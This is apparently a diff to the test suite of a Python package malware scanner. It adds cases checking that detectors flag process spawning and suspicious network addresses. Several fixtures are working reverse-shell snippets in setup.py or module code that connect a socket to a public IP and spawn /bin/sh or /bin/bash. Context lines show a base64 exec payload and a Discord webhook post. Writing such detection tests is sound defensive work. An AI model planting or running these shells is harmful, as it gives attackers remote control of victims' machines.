@@ -148,6 +148,32 @@ CASES = [
     (setup_py("import os, subprocess\nhere = os.path.dirname(__file__)\n"
               "subprocess.check_call([os.path.join(here, 'configure'), '--quiet'])\n"),
      "code.process-spawn", None, "benign: an in-tree configure script named by os.path.join"),
+    # ---- reverse shells: a socket on the standard streams, then a shell
+    (setup_py("import os, pty, socket\n\ndef _connect():\n"
+              "    s = socket.socket(); s.connect(('93.184.216.34', 4444))\n"
+              "    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n"
+              "    pty.spawn('/bin/sh')\n\nif os.fork() == 0:\n    _connect()\n"),
+     "code.process-spawn", C, "a reverse shell forked from setup.py"),
+    ({"demo/__init__.py": "import os, socket, subprocess\n"
+                          "s = socket.create_connection((HOST, 443))\n"
+                          "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n"
+                          "subprocess.call(['/bin/bash', '-i'])\n"},
+     "code.process-spawn", C, "a reverse shell on import, through subprocess"),
+    ({"demo/shell.py": "import os, socket, pty\ndef serve(host, port):\n"
+                       "    s = socket.socket()\n    s.connect((host, port))\n"
+                       "    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n"},
+     "code.process-spawn", M, "a reverse shell in a function nothing calls"),
+    (setup_py("import os, subprocess\nlog = open('build.log', 'w')\nos.dup2(log.fileno(), 1)\n"
+              "subprocess.check_call(['make'])\n"),
+     "code.process-spawn", None, "benign: build output redirected to a log file, no socket"),
+    (setup_py("import socket, subprocess\ns = socket.socket()\ns.connect(('localhost', 8080))\n"
+              "subprocess.check_call(['make'])\n"),
+     "code.process-spawn", None, "benign: a socket and a build, nothing dup2'ed"),
+    (setup_py("import socket\ns = socket.create_connection(('93.184.216.34', 443))\n"),
+     "code.shady-url", H, "a raw public IP in a connect tuple, next to the socket send"),
+    (setup_py("import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 8080))\n"
+              "s.connect(PEER)\ns.connect(())\n"),
+     "code.shady-url", None, "benign: loopback, an address in a variable, an empty tuple"),
     # ---- shady URLs
     (setup_py("import requests\nrequests.post('https://discord.com/api/webhooks/123456789012345678/"
               "abcdefghijklmnopqrstuvwxyz0123456789', json={'a': 1})\n"),
@@ -423,6 +449,11 @@ EVIDENCE = [
      {"demo-1.0.data/scripts/ssh"}, "a wheel script's target is its own path"),
     ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'mybuild.api'\n"},
      "code.build-backend", "backend", {"mybuild.api"}, "the uncommon backend is named"),
+    (setup_py("import socket\ns = socket.socket()\ns.connect(('93.184.216.34', 4444))\n"),
+     "code.shady-url", "url", {"tcp://93.184.216.34"}, "a connect address is shown as tcp://host"),
+    (setup_py("import os, pty, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"
+              "pty.spawn('/bin/sh')\n"),
+     "code.process-spawn", "kind", {"reverse-shell"}, "a shell on a dup2'ed socket"),
     (setup_py("DATA = '" + "7072696e7428312920" * 120 + "'\n"), "code.obfuscation", "technique",
      {"blob"}, "a hex blob is a blob"),
     (setup_py(f"print 'x'\nimport base64\nexec base64.b64decode(\"{PAYLOAD}\")\n"),
